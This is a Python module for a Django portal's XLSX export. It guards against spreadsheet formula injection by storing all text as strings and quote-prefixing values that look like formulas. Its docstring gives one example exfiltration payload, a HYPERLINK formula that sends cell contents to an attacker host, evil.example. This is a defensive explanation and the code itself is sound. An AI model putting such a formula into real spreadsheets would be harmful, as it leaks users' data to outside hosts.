"""The one XLSX writer: every spreadsheet the portal produces is built here.

openpyxl stores any string that starts with ``=`` as a live formula, so text a
citizen typed (a sign-up's 소속, a question, a narrative) could become
``=HYPERLINK("http://evil.example/?x="&A1, …)`` in a staff member's Excel.
`SafeWorkbook` makes every text cell plain text when it is written:

- a string is always stored as a string (``data_type "s"``), never a formula;
- a string that a spreadsheet would read as a formula when someone edits the
  cell (it starts with ``=``, ``+``, ``-`` or ``@`` after optional spaces, or
  with a tab or carriage return) also gets Excel's *quote prefix* style, the
  invisible apostrophe, so F2 + Enter does not bring the formula back either.

The text itself is kept unchanged (no visible apostrophe added), and numbers,
dates and their number formats are untouched: only strings are neutralised.
No export writes a formula on purpose (totals are computed in Python).

Use `new_workbook()` and `to_bytes()` (or `response()`); a test checks that no
other module creates an openpyxl ``Workbook`` itself.
"""

import io

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@")
CONTROL_STARTS = ("\t", "\r")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could read `text` as a formula or DDE command."""
    return text.startswith(CONTROL_STARTS) or text.lstrip().startswith(FORMULA_STARTS)


def neutralise(cell: Cell) -> Cell:
    """Make a text cell plain text; other values are left as they are."""
    value = cell.value
    if isinstance(value, str):
        cell.data_type = "s"
        if is_formula_like(value):
            cell.quotePrefix = True
    return cell


class SafeWriteOnlySheet(WriteOnlyWorksheet):
    """A streaming sheet: rows are written at `append`, so they are made safe there."""

    def append(self, row):
        if isinstance(row, list | tuple | range) or hasattr(row, "__next__"):
            row = [self._safe(value) for value in row]
        super().append(row)

    def _safe(self, value):
        if isinstance(value, Cell):
            return neutralise(value)
        if isinstance(value, str):
            return neutralise(WriteOnlyCell(self, value=value))
        return value


class SafeWorkbook(Workbook):
    """An openpyxl workbook whose text cells can never be formulas."""

    def create_sheet(self, title=None, index=None):
        if self.write_only:
            sheet = SafeWriteOnlySheet(parent=self, title=title)
            self._add_sheet(sheet=sheet, index=index)
            return sheet
        return super().create_sheet(title=title, index=index)

    def save(self, filename):
        if not self.write_only:
            for sheet in self.worksheets:
                if isinstance(sheet, Worksheet):
                    for row in sheet.iter_rows():
                        for cell in row:
                            neutralise(cell)
        super().save(filename)


def new_workbook(*, write_only: bool = False) -> SafeWorkbook:
    return SafeWorkbook(write_only=write_only)


def to_bytes(workbook: SafeWorkbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def response(content: bytes, filename: str) -> HttpResponse:
    """An XLSX download (always an attachment)."""
    reply = HttpResponse(content, content_type=CONTENT_TYPE)
    reply["Content-Disposition"] = f'attachment; filename="{filename}"'
    return reply
